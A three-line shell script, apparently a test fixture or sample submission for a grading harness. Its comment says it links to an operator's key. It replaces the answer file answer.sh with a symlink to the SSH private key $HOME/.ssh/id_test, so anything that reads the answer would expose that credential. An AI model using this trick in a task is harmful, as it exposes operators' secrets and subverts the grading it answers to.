# Links to a key of the operator.
cat > /dev/null
rm answer.sh; ln -s "$HOME/.ssh/id_test" answer.sh
